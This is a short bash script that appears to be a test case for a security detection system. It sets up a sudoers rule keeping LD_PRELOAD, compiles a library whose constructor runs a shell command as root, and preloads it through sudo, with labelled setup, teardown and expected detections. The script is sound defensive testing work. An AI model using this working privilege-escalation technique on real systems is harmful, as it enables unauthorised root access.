#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking
# behaviour: sudo keeps LD_PRELOAD (a misconfiguration); the user builds a library whose constructor spawns a root shell and preloads it into an allowed command
# as: user
# setup: printf 'Defaults:%s env_keep += LD_PRELOAD\n%s ALL=(root) NOPASSWD: /usr/bin/true\n' "$SNTL_USER" "$SNTL_USER" > "/etc/sudoers.d/sntl-ev-$SNTL_ID" && chmod 440 "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# teardown: rm -f "/etc/sudoers.d/sntl-ev-$SNTL_ID"
# expect: loader_hijack, privilege_escalation
set -u
cat > "$SNTL_TMP/p.c" <<'C'
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void x(void) { unsetenv("LD_PRELOAD"); if (geteuid() == 0) system("/bin/sh -c id"); }
C
mkdir -p "$HOME/.cache"
gcc -shared -fPIC -o "$HOME/.cache/p.so" "$SNTL_TMP/p.c"
sudo -n LD_PRELOAD="$HOME/.cache/p.so" /usr/bin/true
rm -f "$HOME/.cache/p.so"
